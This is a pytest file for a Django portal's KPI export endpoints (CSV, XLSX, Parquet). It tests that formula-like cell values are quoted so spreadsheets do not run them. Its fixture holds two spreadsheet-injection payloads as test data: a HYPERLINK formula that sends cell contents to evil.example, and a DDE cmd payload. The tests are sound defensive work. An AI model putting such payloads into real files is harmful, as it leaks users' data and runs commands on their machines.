"""Lists as files: what is in them is what JSON has, and nothing in them runs."""

import csv
import io
import sys
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from pyarrow import parquet

from kpis.models import Equipment
from mfgportal.exports.formulas import quoted
from sync.models import SyncException
from tests.factories import stop
from tests.mfgportal.api.test_kpis import MONDAY, WEEK, produced
from tests.mfgportal.queue import LogIn, World

EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'
VALUES, EVENTS = "/api/v1/kpis", "/api/v1/kpis/events"


@pytest.fixture
def client(world: World, as_user: LogIn) -> Client:
    """A machine and the note of a stop are called what a spreadsheet would run."""
    produced(world.press)
    Equipment.objects.filter(pk=world.press.pk).update(name=EVIL)
    stop(world.press, MONDAY + timedelta(hours=5), 20, note="+1+cmd|' /C calc'!A0")
    return as_user(world.lead)


def body(client: Client, address: str, **query: Any) -> bytes:
    answer = client.get(address, {**WEEK, **query} if "kpi" in query else query)
    assert answer.status_code == 200, answer.content
    assert answer["Content-Disposition"].endswith(f'.{query["format"]}"')
    return b"".join(answer)


def csv_rows(client: Client, address: str, **query: Any) -> list[dict[str, str]]:
    text = body(client, address, format="csv", **query).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_csv_has_what_json_has(client: Client) -> None:
    query = {"kpi": "oee,mtbf,downtime", "by": "equipment", "grain": "day"}
    wanted = client.get(VALUES, WEEK | query).json()
    rows = csv_rows(client, VALUES, **query)
    assert len(rows) == len(wanted) == 21
    for row, value in zip(rows, wanted, strict=True):
        assert (row["kpi"], row["bucket"]) == (value["kpi"], value["bucket"])
        assert (float(row["value"]) if row["value"] else None) == value["value"]
        assert row["key"] == f"'{EVIL}"
        assert (row["first_day"], row["zone"]) == (value["first_day"], "Europe/Paris")


def test_a_csv_begins_with_a_mark_when_asked(client: Client) -> None:
    assert body(client, VALUES, kpi="oee", format="csv", bom=1).startswith(b"\xef\xbb\xbfkpi,title,")
    assert body(client, VALUES, kpi="oee", format="csv").startswith(b"kpi,title,")


def test_a_workbook_has_typed_cells_no_formulas_and_says_what_it_is_of(client: Client) -> None:
    found = body(client, VALUES, kpi="oee,downtime", by="equipment", format="xlsx")
    book = load_workbook(io.BytesIO(found))
    title, *rows = book["Data"].iter_rows()
    places = {cell.value: number for number, cell in enumerate(title)}
    oee, down = rows
    assert (down[places["value"]].value, down[places["value"]].data_type) == (1800, "n")
    assert down[places["first_day"]].value == datetime(2026, 3, 2)  # noqa: DTZ001 - as openpyxl has days
    assert oee[places["open_events"]].value is False
    key = oee[places["key"]]
    assert (key.value, key.data_type, key.quotePrefix) == (EVIL, "s", True)
    about = {name: value for name, value in book["About"].iter_rows(values_only=True)}  # noqa: C416
    assert (about["place"], about["zone"], about["data as of"]) == (
        "Enterprise",
        "Europe/Paris",
        "never read",
    )
    assert about["completeness"] == "0.5714"


def test_a_parquet_file_has_types_and_says_what_it_is_of(client: Client) -> None:
    found = parquet.read_table(
        io.BytesIO(body(client, VALUES, kpi="oee,downtime", by="equipment", format="parquet"))
    )
    types = {field.name: str(field.type) for field in found.schema}
    assert (types["value"], types["first_day"], types["data_as_of"]) == (
        "double",
        "date32[day]",
        "timestamp[us, tz=UTC]",
    )
    rows = found.to_pylist()
    assert (rows[1]["value"], rows[1]["key"], rows[1]["first_day"]) == (1800, EVIL, date(2026, 3, 2))
    assert found.schema.metadata[b"mfgportal.zone"] == b"Europe/Paris"


@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet"])
@pytest.mark.parametrize("what", ["components", "events"])
def test_what_is_behind_a_number_comes_as_a_file_too(client: Client, what: str, kind: str) -> None:
    assert body(client, f"/api/v1/kpis/{what}", kpi="availability", format=kind)


def test_records_come_with_their_origin_and_nothing_runs(client: Client) -> None:
    rows = csv_rows(client, EVENTS, kpi="downtime")
    notes = {row["note"] for row in rows if row["kind"] == "downtime"}
    assert notes == {"", "'+1+cmd|' /C calc'!A0"}
    assert {row["source"] for row in rows} == {"odoo"}
    assert {row["start"] for row in rows} >= {"2026-03-02T06:00:00Z"}
    book = load_workbook(io.BytesIO(body(client, EVENTS, kpi="downtime", format="xlsx")))
    assert {cell.data_type for row in book["Data"].iter_rows() for cell in row} <= {"n", "s", "d", "b"}


def test_the_sums_of_a_file_are_the_number(client: Client) -> None:
    (value,) = client.get(VALUES, WEEK | {"kpi": "availability"}).json()
    rows = csv_rows(client, "/api/v1/kpis/components", kpi="availability")
    assert sum(float(row["oee_run_s"]) for row in rows) == value["numerator"]


def test_the_queue_comes_as_a_file_with_its_filters(world: World, client: Client) -> None:
    SyncException.objects.filter(pk=world.mine.pk).update(title=EVIL)
    rows = csv_rows(client, "/api/v1/exceptions", kind="unmapped_key")
    assert [(row["title"], row["held"]) for row in rows] == [(f"'{EVIL}", "3")]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert quoted(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=1", "MO/0001", "12", "'=1", "ä"])
def test_what_it_would_not_stays(text: str) -> None:
    assert quoted(text) == text


def test_a_file_has_its_limit(client: Client, settings: Any) -> None:
    settings.EXPORT_MAX_ROWS = {"csv": 2, "xlsx": 2, "parquet": 2}
    for address in (VALUES, EVENTS):
        answer = client.get(address, {**WEEK, "kpi": "downtime", "grain": "day", "format": "xlsx"})
        assert (answer.status_code, answer["Content-Type"]) == (413, "application/problem+json")
        assert "at most 2" in answer.json()["detail"]


def test_parquet_that_is_not_installed_is_named(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    answer = client.get(VALUES, {"kpi": "oee", "format": "parquet"})
    assert answer.status_code == 501
    assert "pip install pyarrow" in answer.json()["detail"]


def test_a_format_there_is_not_is_a_problem(client: Client) -> None:
    for address, wanted in ((VALUES, "pdf"), ("/api/v1/plants", "csv")):
        answer = client.get(address, {"format": wanted})
        assert (answer.status_code, answer.json()["errors"][0]["parameter"]) == (400, "format")
    assert client.get("/api/v1/plants?format=json").status_code == 200


def test_a_file_that_is_known_is_not_made_again(client: Client) -> None:
    address = f"{VALUES}?kpi=oee&from=2026-03-02&to=2026-03-08&format=xlsx"
    answer = client.get(address)
    tag = answer["ETag"]
    assert list(answer)
    assert client.get(address, headers={"If-None-Match": tag}).status_code == 304
